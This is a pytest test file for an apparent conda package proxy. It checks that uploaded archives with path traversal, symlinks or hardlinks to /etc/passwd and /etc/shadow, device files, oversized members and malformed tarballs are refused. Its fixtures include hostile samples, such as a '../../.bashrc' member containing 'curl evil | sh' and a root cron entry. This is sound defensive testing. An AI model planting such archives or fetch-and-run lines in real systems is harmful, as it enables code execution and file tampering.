"""The pure rules for uploaded packages (file names, index.json against the file name, archive
members, the unpack budget) and the archive scan that applies them, on hand-made archives."""

from __future__ import annotations

import json
import os
import tarfile
import time
import zipfile
from pathlib import Path
from typing import Any

import pytest

from condaproxy.archive import (
    MIN_BUDGET,
    Budget,
    InvalidPackage,
    PackageTree,
    UnpackLimit,
    ZipEntry,
    check_conda_container,
    check_filename,
    check_index,
    check_member_name,
    unpack_budget,
)
from condaproxy.records_check import InvalidRecord
from condaproxy.unpack import read_package
from tests.hostile.archives import (
    STEM,
    Member,
    conda,
    conda_bytes,
    index_json,
    index_member,
    tar_bytes,
    tar_bz2,
    zstd,
)
from tests.test_records_check import INDEX


def test_good_names_and_index():
    assert check_filename("my-tool-1.0-h0_0.conda") == ("my-tool", "1.0", "h0_0", "conda")
    assert check_index(INDEX, "tool-1.0-h0_0.tar.bz2") == "linux-64"


@pytest.mark.parametrize(
    "name",
    [
        "../tool-1.0-0.conda",
        "a/tool-1.0-0.conda",
        "a\\tool-1.0-0.conda",
        "tool-1.0-0.conda\x00",
        "/abs-1.0-0.conda",
        ".hidden-1.0-0.conda",
        "tool.conda",
        "tool-1.0.zip",
        "",
    ],
)
def test_bad_file_names(name):
    with pytest.raises(InvalidPackage):
        check_filename(name)


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"name": "other"}, "does not match info/index.json"),
        ({"subdir": "../etc"}, "contains a path"),
        ({"subdir": "nonsense"}, "is not a conda subdir"),
        ({"name": None}, "no valid 'name'"),
        ({"build_number": "0"}, "'build_number' must be an integer"),
        ({"depends": "python"}, "'depends' must be a list"),
    ],
)
def test_bad_index_json(change, message):
    with pytest.raises((InvalidPackage, InvalidRecord), match=message):
        check_index({**INDEX, **change}, "tool-1.0-h0_0.conda")


def test_index_json_must_be_an_object():
    with pytest.raises(InvalidRecord, match="not a JSON object"):
        check_index(["x"], "tool-1.0-h0_0.conda")


# --- member names, types and links ----------------------------------------------------------


@pytest.mark.parametrize(
    "member",
    ["/etc/passwd", "../../x", "info/../../x", "a/../../x", "..\\..\\x", "C:\\evil", "\\\\srv\\x"],
)
def test_archive_members_cannot_escape(member):
    with pytest.raises(InvalidPackage):
        check_member_name(member)


def test_member_names_are_normalized():
    assert check_member_name("./info//index.json") == "info/index.json"
    assert check_member_name("./") == ""


def tree_of(*members: Member) -> PackageTree:
    tree = PackageTree()
    tree.new_tarball()
    for member in members:
        info = tarfile.TarInfo(member.name)
        info.type, info.linkname, info.size = member.type, member.linkname, len(member.data)
        tree.add(info)
    tree.finish()
    return tree


SYM, HARD = tarfile.SYMTYPE, tarfile.LNKTYPE
GOOD_TREES = [
    [Member("lib/libz.so.1.3"), Member("lib/libz.so", type=SYM, linkname="libz.so.1.3")],
    [Member("bin/python3.12"), Member("bin/python", type=SYM, linkname="./python3.12")],
    [Member("share/a"), Member("lib/b", type=SYM, linkname="../share/a")],
    [Member("lib/x"), Member("lib/y", type=HARD, linkname="lib/x")],
    [Member("lib", type=tarfile.DIRTYPE), Member("lib64", type=SYM, linkname="lib")],
    [Member("dangling", type=SYM, linkname="not/there")],
]
BAD_TREES = [
    ([Member("lib/x", type=SYM, linkname="../../../etc/passwd")], "points outside"),
    ([Member("lib/x", type=SYM, linkname="/etc/passwd")], "absolute path"),
    ([Member("x", type=SYM, linkname="..")], "points outside"),
    (  # each link stays inside on its own; followed through each other, the second leaves
        [
            Member("p/q/s", type=SYM, linkname="../.."),
            Member("t", type=SYM, linkname="p/q/s/.."),
        ],
        "points outside",
    ),
    ([Member("a", type=SYM, linkname="b"), Member("b", type=SYM, linkname="a")], "loops"),
    ([Member("up", type=SYM, linkname="lib"), Member("up/evil")], "under the symlink"),
    ([Member("x", type=HARD, linkname="/etc/shadow")], "outside the package"),
    ([Member("x", type=HARD, linkname="../etc/shadow")], "outside the package"),
    ([Member("x", type=HARD, linkname="etc/shadow")], "not a file stored before it"),
    ([Member("dev/sda", type=tarfile.BLKTYPE)], "a block device"),
    ([Member("dev/tty", type=tarfile.CHRTYPE)], "a character device"),
    ([Member("pipe", type=tarfile.FIFOTYPE)], "a fifo"),
    ([Member("c", type=tarfile.CONTTYPE)], "tar type"),
    ([Member("lib/x"), Member("lib/x")], "appears twice"),
]


@pytest.mark.parametrize("members", GOOD_TREES)
def test_packages_may_hold_files_dirs_and_links_inside(members):
    tree_of(*members)


@pytest.mark.parametrize(("members", "message"), BAD_TREES)
def test_members_and_links_that_reach_outside_are_refused(members, message):
    with pytest.raises(InvalidPackage, match=message):
        tree_of(*members)


# --- the .conda container --------------------------------------------------------------------


def entries(*names: str, stored: bool = True) -> list[ZipEntry]:
    return [ZipEntry(n, stored, 10, 10 if stored else 5) for n in names]


def test_a_conda_holds_exactly_its_three_members():
    names = ("metadata.json", f"info-{STEM}.tar.zst", f"pkg-{STEM}.tar.zst")
    assert check_conda_container(entries(*names)) == STEM
    for bad, message in [
        (entries(*names, "evil.sh"), "holds 'evil.sh'"),
        (entries(*names, "../x"), "holds '../x'"),
        (entries(*names[:2]), "once"),
        (entries(*names, names[2]), "once"),
        (entries(*names, stored=False), "compressed or encrypted"),
        (entries("metadata.json", "info-../x.tar.zst", "pkg-../x.tar.zst"), "unsafe name"),
        (entries("metadata.json", f"pkg-{STEM}.tar.zst"), "no info-"),
    ]:
        with pytest.raises(InvalidPackage, match=message):
            check_conda_container(bad)


# --- the budget ------------------------------------------------------------------------------


def test_the_unpack_budget():
    assert unpack_budget(1000, 16 * 2**30, 100) == MIN_BUDGET
    assert unpack_budget(10 * 2**20, 16 * 2**30, 100) == 1000 * 2**20
    assert unpack_budget(2 * 2**30, 16 * 2**30, 100) == 16 * 2**30
    budget = Budget(10_000, max_members=3)
    budget.declare("a", 100)
    with pytest.raises(UnpackLimit, match="declares"):
        budget.declare("b", 9_000)
    crowded = Budget(10**9, max_members=3)
    for name in "abc":
        crowded.declare(name, 0)
    with pytest.raises(UnpackLimit, match="more than 3 archive members"):
        crowded.declare("d", 0)
    spent = Budget(1000)
    spent.produce(1000)
    with pytest.raises(UnpackLimit, match="decompresses to more than"):
        spent.produce(1)


# --- the scan over real bytes ---------------------------------------------------------------


def scan(tmp_path: Path, data: bytes, filename: str = f"{STEM}.conda", **budget: Any) -> Any:
    path = tmp_path / filename
    path.write_bytes(data)
    limits = Budget(budget.pop("limit", MIN_BUDGET), **budget)
    return read_package(str(path), filename, limits, lambda index: check_index(index, filename))


def test_scan_returns_the_index_of_good_archives(tmp_path):
    links = [Member("lib/a.so.1", b"x"), Member("lib/a.so", type=SYM, linkname="a.so.1")]
    assert scan(tmp_path, conda(pkg_members=links))["name"] == "hostile"
    assert scan(tmp_path, tar_bz2(links), f"{STEM}.tar.bz2")["name"] == "hostile"


ESCAPES = {
    "symlink after index.json": [Member("lib/x", type=SYM, linkname="../../../etc/passwd")],
    "absolute member": [Member("/etc/cron.d/evil", b"* * * * * root sh")],
    "dotdot member": [Member("../../.bashrc", b"curl evil | sh")],
    "hardlink to /etc/shadow": [Member("lib/x", type=HARD, linkname="/etc/shadow")],
    "device": [Member("dev/mem", type=tarfile.CHRTYPE)],
    "fifo": [Member("lib/fifo", type=tarfile.FIFOTYPE)],
}


@pytest.mark.parametrize("where", ["info", "pkg", "tar.bz2"])
@pytest.mark.parametrize("attack", sorted(ESCAPES))
def test_every_member_is_checked_not_only_those_before_index_json(tmp_path, attack, where):
    members = ESCAPES[attack]
    if where == "tar.bz2":
        data, filename = tar_bz2(members), f"{STEM}.tar.bz2"
    else:
        data = conda(members if where == "info" else (), members if where == "pkg" else ())
        filename = f"{STEM}.conda"
    with pytest.raises(InvalidPackage) as caught:
        scan(tmp_path, data, filename)
    assert caught.value.extra["member"] == members[0].name


def test_a_huge_declared_member_is_refused_before_decompressing(tmp_path):
    pkg = tar_bytes([Member("blob", b"", declared=8 * 2**30)], end=b"")
    started = time.monotonic()
    with pytest.raises(UnpackLimit, match="declares 8589934592 bytes"):
        scan(tmp_path, conda_bytes(zstd(conda_info()), zstd(pkg)))
    assert time.monotonic() - started < 1


def test_decompressed_bytes_count_even_past_the_end_of_the_tarball(tmp_path):
    pkg = tar_bytes([Member("a", b"x")], trailing=bytes(3 * 2**20))
    with pytest.raises(UnpackLimit, match="decompresses to more than"):
        scan(tmp_path, conda_bytes(zstd(conda_info()), zstd(pkg)), limit=2 * 2**20)


def test_member_count_is_bounded(tmp_path):
    pkg = [Member(f"f{i}") for i in range(10)]
    with pytest.raises(UnpackLimit, match="more than 5 archive members"):
        scan(tmp_path, conda(pkg_members=pkg), max_members=5)


def conda_info(**fields: Any) -> bytes:
    return tar_bytes([index_member(index_json(**fields))])


@pytest.mark.parametrize(
    ("pkg", "message"),
    [
        (tar_bytes([Member("a", b"x")], end=b""), "ends inside a member"),
        (tar_bytes([Member("a", b"x" * 600)])[:1100], "truncated"),
        (  # a damaged header, then members tarfile never reaches but other extractors might
            tar_bytes([Member("a", b"x")], end=b"\xff" * 512)
            + tar_bytes([Member("../../evil", b"x")]),
            "data after a damaged or final header",
        ),
        (tar_bytes([Member("a", b"x")], trailing=b"junk"), "data after"),
    ],
    ids=["no-end-marker", "truncated-member", "hidden-after-damage", "trailing-junk"],
)
def test_a_tarball_must_end_cleanly(tmp_path, pkg, message):
    with pytest.raises(InvalidPackage, match=message):
        scan(tmp_path, conda_bytes(zstd(conda_info()), zstd(pkg)))


def test_a_truncated_zstd_stream_inside_a_valid_zip_is_refused(tmp_path):
    pkg = zstd(tar_bytes([Member("a", os.urandom(5000))]))
    with pytest.raises(InvalidPackage, match="truncated"):
        scan(tmp_path, conda_bytes(zstd(conda_info()), pkg[: len(pkg) // 2]))


def test_huge_tar_extension_headers_and_sparse_files_are_refused(tmp_path):
    pax = tarfile.TarInfo("././@PaxHeader")
    pax.type, pax.size = tarfile.XHDTYPE, 2**30
    pkg = pax.tobuf(format=tarfile.USTAR_FORMAT) + bytes(1024)
    with pytest.raises(InvalidPackage, match="extension header declares"):
        scan(tmp_path, conda_bytes(zstd(conda_info()), zstd(pkg)))


def test_index_json_checked_before_the_payload_and_only_once(tmp_path):
    twice = conda(pkg_members=[index_member(index_json(build_number=1))])
    with pytest.raises(InvalidPackage, match="appears twice"):
        scan(tmp_path, twice)
    bad_record = conda(index=index_json(build_number=2**70))
    with pytest.raises(InvalidRecord, match="'build_number'"):
        scan(tmp_path, bad_record)


def test_a_conda_zip_with_compressed_members_is_refused(tmp_path):
    data = conda_bytes(zstd(conda_info()), zstd(tar_bytes([])), compression=zipfile.ZIP_DEFLATED)
    with pytest.raises(InvalidPackage, match="compressed or encrypted"):
        scan(tmp_path, data)


@pytest.mark.parametrize("ext", [".conda", ".tar.bz2"])
def test_a_realistic_package_built_by_conda_package_handling_passes(tmp_path, ext):
    """No false alarms: symlinks to files and directories, hardlinks, long and non-ASCII names,
    nested directories, as conda-build output holds them."""
    from conda_package_handling import api

    src = tmp_path / "src"
    (src / "info").mkdir(parents=True)
    (src / "lib" / "python3.12" / "site-packages" / "pkg").mkdir(parents=True)
    (src / "bin").mkdir()
    (src / "lib" / "libfoo.so.1.2.3").write_bytes(os.urandom(3000))
    os.symlink("libfoo.so.1.2.3", src / "lib" / "libfoo.so.1")
    os.symlink("libfoo.so.1", src / "lib" / "libfoo.so")
    os.symlink("lib", src / "lib64")
    os.symlink("../lib/python3.12/site-packages/pkg", src / "bin" / "pkgdir")
    os.link(src / "lib" / "libfoo.so.1.2.3", src / "bin" / "foo-hardlinked")
    deep = src / "share" / ("d" * 80) / ("e" * 80)
    deep.mkdir(parents=True)
    (deep / ("f" * 120 + ".txt")).write_text("long")
    (src / "share" / "données-ünïcode.txt").write_text("é")
    (src / "lib" / "python3.12" / "site-packages" / "pkg" / "__init__.py").write_text("")
    filename = f"real-1.0-h0{ext}"
    index = {**index_json("real-1.0-h0"), "depends": ["python >=3.12,<3.13.0a0", "libgcc >=13"]}
    (src / "info" / "index.json").write_text(json.dumps(index))
    (src / "info" / "files").write_text("lib/libfoo.so.1.2.3\n")
    api.create(str(src), None, filename, out_folder=str(tmp_path))
    data = (tmp_path / filename).read_bytes()
    (tmp_path / "scan").mkdir()
    assert scan(tmp_path / "scan", data, filename)["name"] == "real"


def test_crafted_symlinks_cannot_cost_quadratic_time():
    deep = "/".join(["a"] * 2000)  # 4 KB of components, inside the package
    members = [Member(f"l{i}", type=SYM, linkname=deep) for i in range(1000)]
    members += [Member(f"{'d/' * 1500}f{i}") for i in range(100)]
    started = time.monotonic()
    with pytest.raises(InvalidPackage, match="too many steps"):
        tree_of(*members)
    assert time.monotonic() - started < 2
